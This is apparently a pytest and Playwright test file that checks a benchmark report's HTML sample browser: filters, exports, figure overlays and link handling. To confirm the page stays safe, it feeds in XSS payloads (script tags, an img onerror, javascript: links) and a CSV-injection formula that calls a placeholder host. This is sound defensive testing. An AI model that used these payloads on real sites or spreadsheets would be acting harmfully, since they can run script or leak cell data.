"""report.html in a real browser (Debian's Chromium driven by Playwright): two fixture runs made with the
real lmms-eval CLI (a loopback model answering with letters, probabilities and hostile markup), the real
`report` command, then the page opened from file://.

Proves: no console error and no request outside the report folder; each verdict filter's count equals the
count computed here straight from the samples JSONL, "not right" equals McNemar's wrong side and an empty
filter says where the docs are; the disagreement filter (and the paired table's McNemar links) lists
exactly the docs one run got right and the other not; the scored answer (not the raw response) is shown
and exported; "no verdict" says why; figures appear and open large in an overlay; links with `&`, `=`,
`%`, `#`, spaces and non-ASCII round-trip; CSV cells a spreadsheet would run are neutralized and blob
URLs released; past four runs only the chosen runs load in full. Hostile responses stay text and open no
dialog. A screenshot per benchmark is saved in the test's folder (and `make screenshot` copies one into
the README). Run by `make test-browser` (--run-browser)."""

import glob
import hashlib
import json
import os
import re

import forkserver
import pytest
from conftest import VENV_BIN, cli_env, openai_args, run_cli

from lmms_eval_earthsci.testing.openai_server import FakeOpenAIServer

pytestmark = [pytest.mark.browser, pytest.mark.e2e]

CHROMIUM = "/usr/bin/chromium"
TASKS = {"emma": "emma_mini_math", "msearth": "msearth_mcq", "scifibench": "scifibench_cs_c2f", "musciclaims": "musciclaims_d", "mac": "mac2025_i2t_info"}
JUDGED = "msearth_open"  # run without a judge: every doc has no verdict, and the page says why
HOSTILE = [
    "<script>window.__pwned = 1; alert(1)</script>",
    "</script><script>alert(2)</script>",
    '<img src=x onerror="alert(3)">',
    "[click](javascript:alert(4)) **bold** $\\href{javascript:alert(5)}{x}$",
]
FIGURES_SEEN = [{"sent": [4000, 3000], "reached": [1456, 1092], "tokens": 2028}]
FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"script") '  # a formula, if a spreadsheet ran the CSV cell


def responder(letter):
    """Run a answers A (and SUPPORT), run b answers B (and CONTRADICT), each in the form the task reads,
    so the runs are right on different docs; every third doc's answer carries hostile markup, about half
    begin with a spreadsheet formula, and run b answers nothing readable on a third of the docs but MAC's."""
    def answer(body):
        text = json.dumps(body.get("messages"), sort_keys=True)
        low = text.lower()
        h = int(hashlib.sha1(text.encode()).hexdigest(), 16)
        hostile = HOSTILE[(h // 3) % len(HOSTILE)] if h % 3 == 0 else ""
        formula = FORMULA if (h // 5) % 2 == 0 else ""
        if "probability" in low:  # MAC: the official probability JSON
            probs = {x: (0.85 if x == letter else 0.05) for x in "ABCD"}
            return json.dumps(probs) + ("" if not hostile else " " + hostile)
        if letter == "B" and (h // 7) % 3 == 0:  # run b gives no answer on some docs (no decision, no letter)
            return "I cannot tell from this figure."
        if "claim" in low:  # MuSciClaims: a decision
            return json.dumps({"decision": "SUPPORT" if letter == "A" else "CONTRADICT"}) + ("" if not hostile else " " + hostile)
        if "open-ended" in low:  # MSEarth's open-ended questions: a short answer
            return f"{hostile} late spring" if hostile else "late spring"
        return formula + (f"{hostile} So the answer is \\boxed{{{letter}}}." if hostile else f"The answer is \\boxed{{{letter}}}.")

    return answer


@pytest.fixture(scope="module")
def report(mirror, hf_home, tmp_path_factory):
    if not os.path.exists(CHROMIUM):
        pytest.fail(f"{CHROMIUM} is missing: `make test-browser` installs Debian's chromium")
    root = tmp_path_factory.mktemp("browser")
    runs = []
    for salt, letter in (("a", "A"), ("b", "B")):
        out = root / f"run_{salt}"
        with FakeOpenAIServer(responder=responder(letter)) as srv:
            # two models (model_version): one model's two runs would be one run of the sweep, the newer kept
            args = ["--model", "openai", "--model_args", openai_args(srv.base_url, model_version=f"fake-{salt}"), "--tasks", ",".join([*TASKS.values(), JUDGED]), "--output_path", str(out), "--log_samples"]
            run_cli(args, cli_env(mirror, hf_home), str(root))
        runs.append(str(out))
    # run a's MSEarth doc 0 as an HF class would have logged it: the size its figure reached the model at
    (path,) = glob.glob(os.path.join(runs[0], "**", "*_samples_msearth_mcq.jsonl"), recursive=True)
    with open(path) as f:
        rows = [json.loads(line) for line in f]
    rows[0]["earthsci_figures"] = FIGURES_SEEN
    with open(path, "w") as f:
        f.writelines(json.dumps(r) + "\n" for r in rows)
    rep = root / "report"
    proc = forkserver.subprocess_run([os.path.join(VENV_BIN, "lmms-eval-earthsci"), "report", *runs, "--out", str(rep), "--resamples", "200"], env=cli_env(mirror, hf_home), capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr[-3000:]
    return root, runs, rep


def samples_of(run, task):
    (path,) = glob.glob(os.path.join(run, "**", f"*_samples_{task}.jsonl"), recursive=True)
    with open(path) as f:
        return [json.loads(line) for line in f if line.strip()]


def expected_verdict(task, s):
    """Each benchmark's verdict from its headline record, written here from the samples' own fields."""
    if task.startswith("emma"):
        r = s["emma_acc"]
        return "no_answer" if r["rule"] == "none" else ("right" if r["score"] > 0 else "wrong")
    if task.startswith("msearth"):
        r = s["msearth_acc"]
        return "no_answer" if r["rule"] in ("none", "no-answer") else ("right" if r["score"] > 0 else "wrong")
    if task.startswith("scifibench"):
        r = s["scifibench_acc"]
        return "no_answer" if r["stage"] == "none" else ("right" if r["score"] > 0 else "wrong")
    if task.startswith("musciclaims"):
        r = s["musciclaims_macro_f1"]
        return "no_answer" if r["pred"] == "INVALID" else ("right" if r["pred"] == r["gold"] else "wrong")
    r = s["mac_acc"]
    return "no_answer" if not r["parsed"] else ("right" if r["correct"] else "wrong")


@pytest.fixture(scope="module")
def page(report):
    from playwright.sync_api import sync_playwright

    root, runs, rep = report
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run"])
        pg = browser.new_page(viewport={"width": 1300, "height": 1200})
        log = {"console": [], "requests": [], "dialogs": [], "errors": []}
        pg.on("console", lambda m: log["console"].append((m.type, m.text)))
        pg.on("pageerror", lambda e: log["errors"].append(str(e)))
        pg.on("request", lambda r: log["requests"].append(r.url))

        def dialog(d):
            log["dialogs"].append(d.message)
            d.dismiss()

        pg.on("dialog", dialog)
        pg.goto(f"file://{rep}/report.html")
        pg.wait_for_selector("#match-count")
        yield pg, log, root, runs, rep
        browser.close()


def load_images(pg):
    for img in pg.query_selector_all("article.doc .images img"):
        img.scroll_into_view_if_needed()
    pg.wait_for_function("() => [...document.querySelectorAll('article.doc .images img')].every(i => i.complete)")


def open_task(pg, task, extra=""):
    pg.evaluate("h => { location.hash = h; }", f"#samples?task={task}{extra}")
    # the list is drawn, and drawn again when the shown runs' details arrive: wait for that
    pg.wait_for_function("t => { const c = document.getElementById('f-task'); return c && c.value === t && document.getElementById('match-count') && !document.querySelector('#browser .loading'); }", arg=task)


def count(pg):
    shown, total = re.fullmatch(r"(\d+) of (\d+) docs", pg.inner_text("#match-count")).groups()
    return int(shown), int(total)


def listed(pg):
    return [(a.get_attribute("data-task"), a.get_attribute("data-doc")) for a in pg.query_selector_all("article.doc")]


def test_verdict_filters_count_what_the_samples_say(page):
    pg, log, root, runs, rep = page
    for _bench, task in TASKS.items():
        expected = {}
        for s in samples_of(runs[0], task):
            v = expected_verdict(task, s)
            expected[v] = expected.get(v, 0) + 1
        open_task(pg, task)
        assert count(pg)[1] == sum(expected.values()), task
        for v in ("right", "wrong", "no_answer"):
            pg.click(f"#f-verdict-{v}")
            pg.wait_for_function("v => document.getElementById('f-verdict-' + v).checked", arg=v)
            assert count(pg)[0] == expected.get(v, 0), (task, v, expected)
            assert pg.inner_text(f"#count-{v}") == str(expected.get(v, 0))
            pg.click(f"#f-verdict-{v}")
            pg.wait_for_function("v => !document.getElementById('f-verdict-' + v).checked", arg=v)
        assert count(pg)[0] == sum(expected.values())


def test_the_disagreement_filter_lists_exactly_the_discordant_docs(page):
    pg, log, root, runs, rep = page
    wrongish = {"wrong", "no_answer"}
    total = 0
    for task in TASKS.values():
        a = {str(s["doc_id"]): expected_verdict(task, s) for s in samples_of(runs[0], task)}
        b = {str(s["doc_id"]): expected_verdict(task, s) for s in samples_of(runs[1], task)}
        a_right = sorted(d for d in a if a[d] == "right" and b.get(d) in wrongish)
        b_right = sorted(d for d in a if b.get(d) == "right" and a[d] in wrongish)
        total += len(a_right) + len(b_right)
        for pair, docs in (("a_right", a_right), ("b_right", b_right), ("any", sorted(a_right + b_right))):
            open_task(pg, task, f"&pair={pair}&a=0&b=1")
            assert sorted(d for _, d in listed(pg)) == docs, (task, pair)
    assert total > 0, "the two runs never disagree: the test would prove nothing"
    # the paired table's McNemar cells link to the same filter, with the same counts
    links = pg.query_selector_all("a.mcnemar")
    assert links
    for link in links[:4]:
        n = int(link.inner_text())
        link.click()
        pg.wait_for_function("() => document.getElementById('match-count')")
        pg.wait_for_timeout(100)
        assert count(pg)[0] == n, link.get_attribute("href")


def test_figures_appear_and_hostile_text_stays_text(page):
    pg, log, root, runs, rep = page
    shots = []
    for bench, task in TASKS.items():
        open_task(pg, task)
        pg.wait_for_timeout(200)
        imgs = pg.query_selector_all("article.doc .images img")
        assert imgs, task
        load_images(pg)
        pg.evaluate("() => document.getElementById('samples').scrollIntoView()")
        assert all(i.evaluate("i => i.naturalWidth") > 0 for i in imgs), task
        assert not pg.query_selector_all("article.doc .placeholder"), task
        path = os.path.join(root, f"screenshot_{bench}.png")
        pg.screenshot(path=path)
        shots.append(path)
    print("\nscreenshots: " + " ".join(shots))
    # every hostile answer is on the page as the text it is, inside a <pre>, and nothing ran
    hostile_docs = 0
    for task in TASKS.values():
        open_task(pg, task, "&q=" + "script")
        hostile_docs += count(pg)[0]
        for card in pg.query_selector_all("article.doc"):  # a doc is listed when a run's response has the text
            assert any("script" in p.inner_text().lower() for p in card.query_selector_all("pre.response"))
    assert hostile_docs > 0, "no hostile response was served"
    assert pg.evaluate("() => window.__pwned === undefined") and log["dialogs"] == []
    assert pg.evaluate("() => document.querySelectorAll('article.doc script, article.doc img:not([src^=\"browser/img/\"]), a[href^=\"javascript:\"]').length") == 0


def test_no_console_error_and_no_request_outside_the_report(page):
    pg, log, root, runs, rep = page
    for task in TASKS.values():
        open_task(pg, task)
        load_images(pg)
    assert log["errors"] == [] and [t for t, _ in log["console"] if t == "error"] == [], log
    # an export is a blob: URL the page makes from its own data (in memory, not a request for a file)
    outside = [u for u in log["requests"] if not u.startswith(f"file://{rep}/") and not u.startswith("blob:")]
    assert outside == [], outside
    assert any(u.endswith(".jpg") for u in log["requests"]) and any("/browser/data/" in u for u in log["requests"])


def test_each_benchmarks_view(page):
    """MuSciClaims: a claim's variants with each run's decision and the flip; MAC: each option's
    probability per run, gold marked, and the task's reliability diagram; SciFIBench C→F: the five
    candidate figures lettered, gold marked; EMMA: the doc's figures."""
    pg, log, root, runs, rep = page
    open_task(pg, "musciclaims_d")
    pair = pg.query_selector("article.doc .crossview")
    assert pair and pair.inner_text().startswith("claim ")
    rows = [[c.inner_text() for c in tr.query_selector_all("td")] for tr in pair.query_selector_all("tr")[1:]]
    doc = pg.query_selector("article.doc").get_attribute("data-doc")
    per_run = [{str(s["doc_id"]): s["musciclaims_macro_f1"] for s in samples_of(run, "musciclaims_d")} for run in runs]
    base = per_run[0][doc]["base_claim_id"]
    variants = sorted(d for d, r in per_run[0].items() if r["base_claim_id"] == base)
    shown = [re.search(r"\(doc (\w+)\)", r[0]).group(1) for r in rows[:-1]]
    assert sorted(shown) == variants and len(variants) >= 2
    for i, recs in enumerate(per_run):  # each run's decision on each variant, and its flip, from the samples
        assert [r[2 + i] for r in rows[:-1]] == [recs[d]["pred"] for d in shown]
        preds = [recs[d]["pred"] for d in variants]
        want = ("flipped, correctly" if all(recs[d]["pred"] == recs[d]["gold"] for d in variants) else "flipped, not both right") if len(set(preds)) > 1 else "no flip: the same decision on both"
        assert rows[-1][0] == "flip" and rows[-1][2 + i] == want

    open_task(pg, "mac2025_i2t_info")
    opts = pg.query_selector("article.doc .crossview")
    rows = [[c.inner_text() for c in tr.query_selector_all("td")] for tr in opts.query_selector_all("tr")[1:]]
    assert [r[0] for r in rows] == ["A", "B", "C", "D"] and sum(r[1] == "✓" for r in rows) == 1
    assert rows[0][2] == "0.85 ← pick" and rows[1][3] == "0.85 ← pick"  # run a put 0.85 on A, run b on B
    assert pg.query_selector("details.taskcharts img[src='mac2025_i2t_info_reliability.png']")

    open_task(pg, "scifibench_cs_c2f")
    caps = [c.inner_text() for c in pg.query_selector("article.doc").query_selector_all("figcaption")]
    assert [c[0] for c in caps] == ["A", "B", "C", "D", "E"] and sum("(gold)" in c for c in caps) == 1
    assert any("← fake-a (run_a)" in c for c in caps)


def test_the_filtered_docs_export_as_jsonl_and_csv(page):
    pg, log, root, runs, rep = page
    open_task(pg, "emma_mini_math", "&verdict=right,wrong")
    shown = count(pg)[0]
    want = sorted(str(s["doc_id"]) for s in samples_of(runs[0], "emma_mini_math") if expected_verdict("emma_mini_math", s) in ("right", "wrong"))
    assert shown == len(want) > 0
    with pg.expect_download() as got:
        pg.click("#export-jsonl")
    rows = [json.loads(x) for x in open(got.value.path()).read().splitlines()]
    assert sorted(r["doc_id"] for r in rows) == want and all(r["task"] == "emma_mini_math" for r in rows)
    assert [x["verdict"] for r in rows for x in r["runs"][:1]] == [expected_verdict("emma_mini_math", s) for s in samples_of(runs[0], "emma_mini_math") if str(s["doc_id"]) in want]
    with pg.expect_download() as got:
        pg.click("#export-csv")
    import csv

    table = list(csv.DictReader(open(got.value.path(), newline="")))
    assert sorted(r["doc_id"] for r in table) == want and {"run0_verdict", "run1_response"} <= set(table[0])


NOT_RIGHT = {"wrong", "no_answer", "judge_failed"}


def test_not_right_is_mcnemars_wrong_side_and_an_empty_filter_says_where_the_docs_are(page):
    pg, log, root, runs, rep = page
    hinted = no_answer = 0
    for task in TASKS.values():
        a = {str(s["doc_id"]): expected_verdict(task, s) for s in samples_of(runs[0], task)}
        b = {str(s["doc_id"]): expected_verdict(task, s) for s in samples_of(runs[1], task)}
        no_answer += sum(v == "no_answer" for v in b.values())
        # run b's "not right" under the pair filter "A right": exactly McNemar's cell (a right, b not right)
        open_task(pg, task, "&run=1&verdict=not_right&pair=a_right&a=0&b=1")
        cell = sorted(d for d in a if a[d] == "right" and b.get(d) in NOT_RIGHT)
        assert sorted(d for _, d in listed(pg)) == cell, task
        for run, verdicts in ((0, a), (1, b)):
            open_task(pg, task, f"&run={run}&verdict=not_right")
            assert count(pg)[0] == sum(v in NOT_RIGHT for v in verdicts.values()) == int(pg.inner_text("#count-not_right")), (task, run)
        for v in ("wrong", "right", "no_answer"):  # a fine-grained filter with no doc: the hint says where they are
            if any(x == v for x in a.values()):
                continue
            open_task(pg, task, f"&verdict={v}")
            assert count(pg)[0] == 0
            label = {"no_answer": "no answer"}.get(v, v)
            parts = []
            for w, text in (("right", "are right"), ("wrong", "are wrong"), ("no_answer", "have no answer")):
                n = sum(x == w for x in a.values())
                if n:
                    parts.append(f"{n} doc{'s' if n > 1 else ''} {text if n > 1 else text.replace('are', 'is').replace('have', 'has')}")
            assert pg.inner_text("#empty-hint") == f'No "{label}" doc under the other filters: {", ".join(parts)}.', task
            hinted += 1
    assert hinted, "no task had an empty verdict: the hint was never shown"
    assert no_answer, "run b answered every doc: 'not right' was not more than 'wrong'"


def option_text(prompt, letter):
    block = prompt.rsplit("Options:", 1)[1]
    return next(f"{letter}. {m.group(2)}" for m in re.finditer(r"^[ \t]*([A-Z])[.)][ \t]*(.*\S)[ \t]*$", block, re.M) if m.group(1) == letter)


def test_the_scored_answer_is_shown_and_exported_beside_the_raw_response(page):
    pg, log, root, runs, rep = page
    task = "msearth_mcq"
    want = {}
    for s in samples_of(runs[0], task):
        r = s["msearth_acc"]
        want[str(s["doc_id"])] = option_text(s["input"], r["option"]) if r.get("option") else "(no answer)"
    open_task(pg, task)
    pg.wait_for_selector("article.doc pre.response")
    for card in pg.query_selector_all("article.doc"):
        first = card.query_selector(".run")
        assert first.query_selector(".answer code").inner_text() == want[card.get_attribute("data-doc")]
        assert first.query_selector("pre.response").inner_text() != want[card.get_attribute("data-doc")]
    assert any(v != "(no answer)" for v in want.values())
    with pg.expect_download() as got:
        pg.click("#export-csv")
    import csv

    table = list(csv.DictReader(open(got.value.path(), newline="")))
    assert {r["doc_id"]: r["run0_scored_answer"] or "(no answer)" for r in table} == want
    assert all(r["run0_response"] for r in table)


def test_no_verdict_says_why(page):
    pg, log, root, runs, rep = page
    open_task(pg, JUDGED, "&verdict=no_verdict")
    total = count(pg)[1]
    assert count(pg)[0] == total > 0
    pg.wait_for_selector("article.doc .why")
    why = pg.query_selector("article.doc .why").inner_text()
    assert "— no LLM judge was configured for this run, so msearth_oe_acc has no value" in why and "EARTHSCI_JUDGE_BASE_URL" in why


def test_a_figure_opens_large_and_a_key_or_click_closes_it(page):
    pg, log, root, runs, rep = page
    open_task(pg, "scifibench_cs_c2f")
    load_images(pg)
    thumb = pg.query_selector("article.doc .images img")
    thumb.click()
    pg.wait_for_selector("#overlay")
    src = pg.get_attribute("#overlay-img", "src")
    assert src.startswith("browser/large/") and os.path.exists(os.path.join(rep, src))
    pg.wait_for_function("() => document.getElementById('overlay-img').complete && document.getElementById('overlay-img').naturalWidth > 0")
    assert "1 of 5" in pg.inner_text("#overlay-caption")
    pg.keyboard.press("ArrowRight")
    assert "2 of 5" in pg.inner_text("#overlay-caption") and pg.get_attribute("#overlay-img", "src") != src
    pg.keyboard.press("Escape")
    assert pg.query_selector("#overlay") is None
    thumb.click()
    pg.wait_for_selector("#overlay")
    pg.click("#overlay")
    assert pg.query_selector("#overlay") is None
    # the task's own charts: drawn at the browser's width, and they open in the overlay too
    open_task(pg, "mac2025_i2t_info")
    pg.click("details.taskcharts summary")
    chart = pg.query_selector("details.taskcharts img")
    pg.wait_for_function("() => document.querySelector('details.taskcharts img').complete")
    assert chart.evaluate("i => i.getBoundingClientRect().width") >= min(900, chart.evaluate("i => i.naturalWidth")) - 1
    chart.click()
    assert pg.get_attribute("#overlay-img", "src") == "mac2025_i2t_info_reliability.png"
    pg.keyboard.press("Escape")


def test_links_round_trip_values_with_reserved_characters(page):
    pg, log, root, runs, rep = page
    journal = next(s["mac_acc"]["journal"] for s in samples_of(runs[0], "mac2025_i2t_info") if "&" in s["mac_acc"]["journal"])
    n = sum(s["mac_acc"]["journal"] == journal for s in samples_of(runs[0], "mac2025_i2t_info"))
    open_task(pg, "mac2025_i2t_info")
    pg.select_option("#f-field-journal", journal)
    pg.wait_for_function("j => document.getElementById('f-field-journal').value === j", arg=journal)
    assert count(pg)[0] == n > 0
    text = "a&b=c %41 #x ü 漢"
    pg.fill("#f-q", text)
    pg.press("#f-q", "Enter")
    pg.wait_for_function("t => document.getElementById('f-q').value === t && !document.querySelector('#browser .loading')", arg=text)
    link = pg.evaluate("() => location.hash")
    assert link.count("#") == 1 and " " not in link
    pg.reload()
    pg.wait_for_selector("#match-count")
    assert pg.input_value("#f-field-journal") == journal and pg.input_value("#f-q") == text
    # a doc's own link, and a hand-edited link with a stray %: no error, the value as typed
    pg.evaluate("h => { location.hash = h; }", "#samples?task=emma_mini_math&q=50%")
    pg.wait_for_function("() => document.getElementById('f-q') && document.getElementById('f-q').value === '50%'")
    assert log["errors"] == []


def test_csv_cells_a_spreadsheet_would_run_are_neutralized_and_blobs_released(page):
    import csv

    pg, log, root, runs, rep = page
    pg.evaluate("() => { window.__revoked = []; const r = URL.revokeObjectURL.bind(URL); URL.revokeObjectURL = (u) => { window.__revoked.push(u); r(u); }; }")
    formulas = 0
    for task in ("emma_mini_math", "msearth_mcq", "scifibench_cs_c2f"):
        open_task(pg, task)
        with pg.expect_download() as got:
            pg.click("#export-csv")
        cells = [c for row in csv.reader(open(got.value.path(), newline="")) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], task
        formulas += sum(c.startswith("'=HYPERLINK") for c in cells)
    assert formulas > 0, "no response began with a formula: the neutralization was not exercised"
    pg.wait_for_function("() => window.__revoked.length >= 3", timeout=5000)
    assert all(u.startswith("blob:") for u in pg.evaluate("() => window.__revoked"))


@pytest.fixture(scope="module")
def sweep_page(report, page, mirror, hf_home):
    """Six runs (the two real ones and four copies with other checkpoints' answers): past four runs the
    page loads in full only the runs it shows."""
    from lmms_eval_earthsci.testing.sweep import clone_run

    root, runs, rep = report
    folders = list(runs)
    for i in range(4):
        (results,) = glob.glob(os.path.join(runs[i % 2], "*", "*_results.json"))
        clone_run(results, str(root / f"clone_{i}"), model_args=f"model_version=fake-clone-{i}", flip=0.3, seed=i)
        folders.append(str(root / f"clone_{i}"))
    out = root / "sweep_report"
    proc = forkserver.subprocess_run([os.path.join(VENV_BIN, "lmms-eval-earthsci"), "report", *folders, "--out", str(out), "--resamples", "0", "--no-images"], env=cli_env(mirror, hf_home), capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr[-3000:]
    pg = page[0].context.browser.new_page(viewport={"width": 1300, "height": 1200})  # the same Chromium
    requests = []
    pg.on("request", lambda r: requests.append(r.url))
    pg.goto(f"file://{out}/report.html#samples?task=emma_mini_math")
    pg.wait_for_selector("#match-count")
    yield pg, requests
    pg.close()


def test_past_four_runs_only_the_chosen_runs_load_in_full(sweep_page):
    pg, requests = sweep_page
    pg.wait_for_selector("article.doc pre.response")
    assert pg.evaluate("() => document.getElementById('f-run').options.length") == 6
    def loaded():
        return sorted(int(re.search(r"_r(\d+)\.js$", u).group(1)) for u in requests if re.search(r"/data/t\d+_r\d+\.js$", u))
    assert loaded() == [0, 1]  # run 0 (verdicts of), A = 0, B = 1
    card = pg.query_selector("article.doc")
    assert len(card.query_selector_all(".runs .run")) == 2
    others = card.query_selector("details.otherruns")
    assert others.query_selector("summary").inner_text() == "the other 4 runs"
    others.query_selector("summary").click()
    others.query_selector_all("button.more")[1].click()  # the fourth run (index 3)
    pg.wait_for_function("() => document.querySelector('article.doc').querySelectorAll('.runs .run').length === 3")
    assert loaded() == [0, 1, 3]
    names = pg.evaluate("() => [...document.getElementById('f-run').options].map(o => o.text)")
    pg.select_option("#f-b", "5")  # B: run 5 instead of run 1; run 3 stays open
    want = [names[0], names[3], names[5]]
    pg.wait_for_function("w => JSON.stringify([...document.querySelector('article.doc').querySelectorAll('.runs .run h4')].map(h => h.textContent)) === JSON.stringify(w)", arg=want)
    assert loaded() == [0, 1, 3, 5]


def test_readme_screenshot(page, tmp_path):
    """The README's picture of the browser (`make screenshot` writes it over the package's copy): SciFIBench
    C→F with the two runs side by side, its candidate figures lettered, gold and each run's pick marked."""
    from PIL import Image

    pg, log, root, runs, rep = page
    open_task(pg, "scifibench_cs_c2f")
    pg.wait_for_selector("article.doc pre.response")  # the runs' details are in: the list is drawn for good
    load_images(pg)
    caps = [c.inner_text() for c in pg.query_selector("article.doc").query_selector_all("figcaption")]
    assert [c[0] for c in caps] == ["A", "B", "C", "D", "E"] and sum("(gold)" in c for c in caps) == 1
    pg.evaluate("() => document.getElementById('samples').scrollIntoView()")
    target = os.environ.get("EARTHSCI_README_SCREENSHOT") or str(tmp_path / "sample_browser.png")
    pg.screenshot(path=target)
    assert Image.open(target).size == (1300, 1200)


def test_a_lost_layout_shows_a_banner_on_its_task(page):
    """A run whose scifibench_cs_c2f lost the authors' layout (as its layout probe recorded it): that task's
    view says so, with the class, what was lost and the fix; a task that kept it (MSEarth) says nothing."""
    import glob
    import json
    import shutil

    pg, log, root, runs, rep = page
    lost_run = root / "run_b_lost"
    if not lost_run.exists():
        shutil.copytree(runs[1], lost_run)
        path = sorted(glob.glob(str(lost_run / "**" / "*_results.json"), recursive=True))[-1]
        with open(path) as f:
            res = json.load(f)
        res["configs"]["scifibench_cs_c2f"]["metadata"]["earthsci_layout"] = {
            "status": "lost", "class": "LlavaHf", "expected": "T I T I T I T I T I T", "received": "I I I I I T T T T T T",
            "lost": ["images first, labels cut off from their figures"], "fix": "a chat route that interleaves",
        }
        with open(path, "w") as f:
            json.dump(res, f)
    rep2 = root / "report_lost"
    proc = forkserver.subprocess_run([os.path.join(VENV_BIN, "lmms-eval-earthsci"), "report", runs[0], str(lost_run), "--out", str(rep2), "--resamples", "0", "--no-images"],
                          capture_output=True, text=True, timeout=600, env={**os.environ, "PATH": VENV_BIN + os.pathsep + os.environ.get("PATH", "")})
    assert proc.returncode == 0, proc.stderr[-3000:]
    pg.goto(f"file://{rep2}/report.html")
    pg.wait_for_selector("#match-count")
    open_task(pg, "scifibench_cs_c2f")
    banner = pg.query_selector("#layout-banner")
    assert banner is not None and banner.is_visible()
    text = banner.inner_text()
    assert "not the authors' layout" in text and "LlavaHf" in text and "labels cut off from their figures" in text and "a chat route that interleaves" in text
    open_task(pg, "msearth_mcq")
    assert pg.query_selector("#layout-banner") is None
    pg.goto(f"file://{rep}/report.html")  # the module's page, as the other tests expect it
    pg.wait_for_selector("#match-count")


def test_a_figures_size_as_it_reached_the_model_is_shown_under_its_run(page):
    pg, _, _, runs, _ = page
    open_task(pg, "msearth_mcq", "&doc=0")
    shown = [p.inner_text() for p in pg.query_selector_all("article.doc .figures-seen")]
    assert shown == ["figure 1 reached the model at 1456 x 1092 (sent 4000 x 3000), 2,028 visual tokens"], shown  # run a only: run b read none
